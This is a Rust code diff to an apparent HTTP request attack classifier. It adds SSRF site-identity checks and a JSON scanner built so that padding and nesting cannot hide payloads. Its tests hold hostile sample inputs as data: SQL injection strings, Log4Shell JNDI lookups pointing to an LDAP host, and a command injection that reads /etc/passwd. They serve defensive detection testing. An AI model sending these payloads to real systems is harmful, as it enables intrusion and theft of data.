@@ -109,6 +109,9 @@ pub fn normalize(s: &str) -> String {
 pub struct Inputs {
     /// (where, normalized text): `path`, `query:NAME`, `header:NAME`, `body`.
     pub parts: Vec<(String, String)>,
+    /// The site itself as (host, port), lowercased: the request's Host, the server's address
+    /// (see [`Inputs::add_site`]). A URL naming it is a link, not an SSRF target.
+    pub site: Vec<(String, u16)>,
 }
 
 /// Headers whose values are credentials: never scanned, never quoted as evidence (with the
@@ -116,10 +119,63 @@ pub struct Inputs {
 const SECRET_HEADERS: [&str; 4] = ["authorization", "cookie", "proxy-authorization", "x-api-key"];
 
 impl Inputs {
+    /// Does (host, port) name the site itself? A URL without an explicit port names it when the
+    /// host matches; with one, on the site's port or a web port (80, 443: a link written with
+    /// the public scheme while the mirror sees the plain port behind a TLS terminator).
+    pub fn is_site(&self, host: &str, port: Option<u16>) -> bool {
+        self.site
+            .iter()
+            .any(|(h, p)| h == host && port.is_none_or(|u| u == *p || u == 80 || u == 443))
+    }
+
+    /// Add an authority (`host`, `host:port`, `[v6]:port`, or a URL) as the site itself;
+    /// `default_port` when it names none.
+    pub fn add_site(&mut self, authority: &str, default_port: u16) {
+        let a = authority.trim().to_ascii_lowercase();
+        let a = crate::event::absolute_rest(&a).unwrap_or(&a);
+        let a = a.split(['/', '?', '#']).next().unwrap_or("");
+        let (h, p) = if let Some(v6) = a.strip_prefix('[') {
+            let (h, after) = v6.split_once(']').unwrap_or((v6, ""));
+            (h, after.strip_prefix(':').and_then(|p| p.parse().ok()))
+        } else {
+            match a.rsplit_once(':') {
+                Some((h, p)) if !h.contains(':') => (h, p.parse().ok()),
+                _ => (a, None),
+            }
+        };
+        if h.is_empty() {
+            return;
+        }
+        let entry = (ssrf::canonical_host(h.trim_end_matches('.')), p.unwrap_or(default_port));
+        if !self.site.contains(&entry) {
+            self.site.push(entry);
+        }
+    }
+
+    /// [`Inputs::of`], with the site itself known: the request's Host and the server's
+    /// address and port from the flow, and the configured site origins.
+    pub fn of_site(tx: &Transaction, server: Option<(std::net::IpAddr, u16)>, origins: &[String]) -> Inputs {
+        let mut i = Inputs::of(tx);
+        let port = server.map_or(80, |(_, p)| p);
+        if let Some((ip, p)) = server {
+            i.add_site(&ip.to_string(), p);
+        }
+        for o in origins {
+            i.add_site(o, if o.starts_with("https://") { 443 } else { 80 });
+        }
+        if let Some(h) = tx.request.as_ref().and_then(|q| q.header("host")) {
+            i.add_site(h, port);
+        }
+        i
+    }
+
     pub fn of(tx: &Transaction) -> Inputs {
         let mut parts = Vec::new();
         let Some(q) = &tx.request else {
-            return Inputs { parts };
+            return Inputs {
+                parts,
+                site: Vec::new(),
+            };
         };
         let (path, query) = q.uri.split_once('?').unwrap_or((&q.uri, ""));
         parts.push(("path".to_string(), normalize(path)));
@@ -148,38 +204,156 @@ impl Inputs {
                 for (k, v) in crate::redact::query_pairs(&text) {
                     parts.push((format!("body:{}", normalize(k)), normalize(v)));
                 }
-            } else if let Ok(v) = serde_json::from_str::<serde_json::Value>(&text) {
-                // JSON: the values the application reads, not the quotes and braces around them
-                let mut n = 0;
-                json_leaves(&v, "", 0, &mut n, &mut parts);
+            } else if text.trim_start().starts_with(['{', '[']) {
+                // JSON: the values the application reads, not the quotes and braces around
+                // them, in document order and at any depth (padding or nesting cannot push a
+                // payload out of view: the body depth is the only bound). Broken JSON is also
+                // scanned whole, so a syntax error hides nothing.
+                if !json_strings(&text, &mut parts) {
+                    parts.push(("body".to_string(), text.to_lowercase()));
+                }
             } else {
                 parts.push(("body".to_string(), text.to_lowercase()));
             }
         }
-        Inputs { parts }
+        Inputs {
+            parts,
+            site: Vec::new(),
+        }
     }
 }
 
-/// String leaves of a JSON body as `body:KEY` parts (and keys that look like operators, as
-/// NoSQL injection puts them), bounded in depth and count.
-fn json_leaves(v: &serde_json::Value, key: &str, depth: usize, n: &mut usize, out: &mut Vec<(String, String)>) {
-    if depth > 12 || *n > 256 {
-        return;
-    }
-    *n += 1;
-    match v {
-        serde_json::Value::String(s) => out.push((format!("body:{key}"), normalize(s))),
-        serde_json::Value::Array(a) => a.iter().for_each(|x| json_leaves(x, key, depth + 1, n, out)),
-        serde_json::Value::Object(o) => {
-            for (k, x) in o {
-                if k.starts_with('$') {
-                    out.push(("body-key".to_string(), format!("{{\"{}\":", k.to_lowercase())));
+/// Could a value under this key be an SSRF target without a scheme (a bare host)?
+fn urlish_key(k: &str) -> bool {
+    ssrf::URLISH.iter().any(|u| k.contains(u))
+}
+
+/// Every string of a JSON text as a `body:KEY` part (KEY: the innermost object key), and keys
+/// that look like operators (`$ne`, as NoSQL injection puts them) or carry payload characters.
+/// Values no classifier could fire on (short, identifiers, plain words; unless a URL-ish key
+/// makes a bare host matter) are skipped without allocating. Iterative, one pass, no depth
+/// limit. False when the text is not JSON (a syntax error before its end); a text cut short
+/// (body depth) is fine.
+pub fn json_strings(text: &str, out: &mut Vec<(String, String)>) -> bool {
+    let b = text.as_bytes();
+    // per open container: Some(current key) for an object, None for an array
+    let mut stack: Vec<Option<String>> = Vec::new();
+    let mut expect_key = false;
+    let mut i = 0;
+    let mut sbuf = String::new();
+    while i < b.len() {
+        match b[i] {
+            b' ' | b'\t' | b'\n' | b'\r' | b',' | b':' => {
+                if b[i] == b',' {
+                    expect_key = matches!(stack.last(), Some(Some(_)));
                 }
-                json_leaves(x, k, depth + 1, n, out);
+                i += 1;
             }
+            b'{' => {
+                stack.push(Some(String::new()));
+                expect_key = true;
+                i += 1;
+            }
+            b'[' => {
+                stack.push(None);
+                expect_key = false;
+                i += 1;
+            }
+            b'}' | b']' => {
+                if stack.pop().is_none() {
+                    return false;
+                }
+                expect_key = false;
+                i += 1;
+            }
+            b'"' => {
+                let Some(end) = json_string(text, i + 1, &mut sbuf) else {
+                    return true; // cut short inside a string
+                };
+                i = end;
+                if expect_key {
+                    let k = sbuf.to_lowercase();
+                    if k.starts_with('$') {
+                        out.push(("body-key".to_string(), format!("{{\"{k}\":")));
+                    } else if k.contains(['[', '(', '<', '\'', '"', ';', '|', '`']) {
+                        out.push(("body-name".to_string(), normalize(&k)));
+                    }
+                    if let Some(Some(cur)) = stack.last_mut() {
+                        *cur = k;
+                    }
+                    expect_key = false;
+                } else {
+                    let key = stack.iter().rev().find_map(|k| k.as_deref()).unwrap_or("");
+                    let v = normalize(&sbuf);
+                    let inert = v.len() < 3 || payload::inert(&v) || payload::words(&v);
+                    if !inert || (v.len() >= 3 && urlish_key(key)) {
+                        out.push((format!("body:{key}"), v));
+                    }
+                }
+            }
+            // numbers, true, false, null
+            c if c == b'-' || c.is_ascii_alphanumeric() || c == b'.' || c == b'+' => i += 1,
+            _ => return false,
         }
-        _ => {}
     }
+    true
+}
+
+/// A JSON string's contents from `t[start..]` (just after the opening quote) into `out`,
+/// escapes undone; the index after the closing quote, or `None` when the text ends first.
+/// Escapes and quotes are ASCII, so every run between them is whole UTF-8.
+fn json_string(t: &str, start: usize, out: &mut String) -> Option<usize> {
+    out.clear();
+    let b = t.as_bytes();
+    let hex4 = |i: usize| t.get(i..i + 4).and_then(|h| u32::from_str_radix(h, 16).ok());
+    let (mut i, mut run) = (start, start);
+    while i < b.len() {
+        match b[i] {
+            b'"' => {
+                out.push_str(t.get(run..i)?);
+                return Some(i + 1);
+            }
+            b'\\' => {
+                out.push_str(t.get(run..i)?);
+                let e = *b.get(i + 1)?;
+                i += 2;
+                match e {
+                    b'n' => out.push('\n'),
+                    b't' => out.push('\t'),
+                    b'r' => out.push('\r'),
+                    b'b' => out.push('\u{8}'),
+                    b'f' => out.push('\u{c}'),
+                    b'u' => {
+                        // a broken escape is kept as U+FFFD, never the end of the scan
+                        let mut cp = match hex4(i) {
+                            Some(c) => {
+                                i += 4;
+                                c
+                            }
+                            None => 0xfffd,
+                        };
+                        if (0xd800..0xdc00).contains(&cp) && t.get(i..i + 2) == Some("\\u") {
+                            if let Some(lo) = hex4(i + 2).filter(|lo| (0xdc00..0xe000).contains(lo)) {
+                                cp = 0x10000 + ((cp - 0xd800) << 10) + (lo - 0xdc00);
+                                i += 6;
+                            }
+                        }
+                        out.push(char::from_u32(cp).unwrap_or('\u{fffd}'));
+                    }
+                    other if other.is_ascii() => out.push(other as char),
+                    _ => {
+                        out.push('\u{fffd}');
+                        while i < b.len() && !t.is_char_boundary(i) {
+                            i += 1;
+                        }
+                    }
+                }
+                run = i;
+            }
+            _ => i += 1,
+        }
+    }
+    None
 }
 
 /// The classifiers' verdicts on one transaction, with a short evidence string for each.
@@ -388,4 +562,127 @@ pub fn strip_userinfo(s: &str) -> String {
         }
     }
     s.to_string()
+}
+
+#[cfg(test)]
+mod input_tests {
+    use super::*;
+    use crate::http::{Message, Transaction};
+
+    fn post(ct: &str, body: &str, headers: &[(&str, &str)]) -> Transaction {
+        let mut h: Vec<(String, String)> =
+            vec![("Content-Type".into(), ct.into()), ("Host".into(), "10.77.0.10".into())];
+        h.extend(headers.iter().map(|(a, b)| (a.to_string(), b.to_string())));
+        let q = Message {
+            method: "POST".into(),
+            uri: "/api/search".into(),
+            headers: h,
+            body_len: body.len() as u64,
+            body: body.as_bytes().to_vec(),
+            ..Default::default()
+        };
+        Transaction::new(Some(q), None, false)
+    }
+
+    fn verdicts(tx: &Transaction) -> Vec<&'static str> {
+        let inputs = Inputs::of_site(tx, None, &[]);
+        classify(tx, &inputs, &Default::default()).names()
+    }
+
+    #[test]
+    fn json_padding_and_nesting_do_not_hide_a_payload() {
+        let pad: Vec<String> = (0..300).map(|i| i.to_string()).collect();
+        let padded = format!(
+            r#"{{"a":[{}],"q":"1' UNION SELECT password FROM users--"}}"#,
+            pad.join(",")
+        );
+        assert!(verdicts(&post("application/json", &padded, &[])).contains(&"sqli"));
+        let strings: Vec<String> = (0..600).map(|i| format!("\"v{i}\"")).collect();
+        let padded = format!(
+            r#"{{"z":[{}],"a":"1' UNION SELECT password FROM users--"}}"#,
+            strings.join(",")
+        );
+        assert!(verdicts(&post("application/json", &padded, &[])).contains(&"sqli"));
+        let deep = format!(r#"{}"1 OR 1=1--' UNION SELECT 1"{}"#, "[".repeat(40), "]".repeat(40));
+        assert!(verdicts(&post("application/json", &deep, &[])).contains(&"sqli"));
+        let nested = format!("{}\"x\"{}", "{\"k\":".repeat(30), "}".repeat(30));
+        assert!(verdicts(&post("application/json", &nested, &[])).is_empty());
+        // a broken escape or a syntax error ends nothing
+        let esc = r#"{"a":"\uZZZZ \é","b":"${jndi:ldap://203.0.113.66:1389/a}"}"#;
+        assert!(verdicts(&post("application/json", esc, &[])).contains(&"jndi"));
+        let broken = r#"{"a":1,,, ; "b": '${jndi:ldap://203.0.113.66/a}'}"#;
+        assert!(verdicts(&post("application/json", broken, &[])).contains(&"jndi"));
+    }
+
+    #[test]
+    fn json_strings_unescape_in_document_order() {
+        let mut out = Vec::new();
+        assert!(json_strings(
+            r#"{"b":"x\"y\u0027z or 1=1","a":{"url":"localhost"},"c":["tom & jerry"]}"#,
+            &mut out
+        ));
+        let got: Vec<(&str, &str)> = out.iter().map(|(a, b)| (a.as_str(), b.as_str())).collect();
+        assert_eq!(
+            got,
+            [
+                ("body:b", "x\"y'z or 1=1"),
+                ("body:url", "localhost"),
+                ("body:c", "tom & jerry")
+            ]
+        );
+        // cut short by the body depth: what came before is kept
+        out.clear();
+        assert!(json_strings(r#"{"q":"a;b c","r":"unfinish"#, &mut out));
+        assert_eq!(out.len(), 1);
+    }
+
+    #[test]
+    fn jndi_lookup_in_any_header_is_injection() {
+        for h in ["User-Agent", "Referer", "X-Api-Version", "X-Forwarded-For"] {
+            let tx = post("text/plain", "", &[(h, "${jndi:ldap://203.0.113.66:1389/a}")]);
+            assert!(verdicts(&tx).contains(&"jndi"), "{h}");
+        }
+    }
+
+    #[test]
+    fn benign_free_text_is_not_injection() {
+        for q in [
+            r#"{"q":"O'Brien's \"best\" drop table lamp & chairs; 100% oak <3"}"#,
+            r#"{"name":"Conan O'Brien","note":"select union; drop-in table"}"#,
+            r#"{"review":"5 stars -- would buy again; it's 1=1 great"}"#,
+        ] {
+            assert!(
+                verdicts(&post("application/json", q, &[])).is_empty(),
+                "{q}: {:?}",
+                verdicts(&post("application/json", q, &[]))
+            );
+        }
+        let tx = post(
+            "application/x-www-form-urlencoded",
+            "q=O%27Brien%27s+%22best%22+drop+table+lamp+%26+chairs%3B+100%25+oak+%3C3",
+            &[
+                ("Referer", "http://10.77.0.10/search?q=select"),
+                ("Origin", "http://10.77.0.10"),
+            ],
+        );
+        assert!(verdicts(&tx).is_empty(), "{:?}", verdicts(&tx));
+    }
+
+    #[test]
+    fn matrix_parameters_are_not_commands() {
+        let q = Message {
+            method: "GET".into(),
+            uri: "/activityi;src=4378683;type=invmedia;cat=abcdef;ord=1;num=12345?".into(),
+            headers: vec![("Host".into(), "ad.example".into())],
+            ..Default::default()
+        };
+        let tx = Transaction::new(Some(q), None, false);
+        assert!(verdicts(&tx).is_empty(), "{:?}", verdicts(&tx));
+        let q = Message {
+            method: "GET".into(),
+            uri: "/ping?host=127.0.0.1;cat%20/etc/passwd".into(),
+            ..Default::default()
+        };
+        assert!(verdicts(&Transaction::new(Some(q), None, false)).contains(&"cmdi"));
+    }
 }
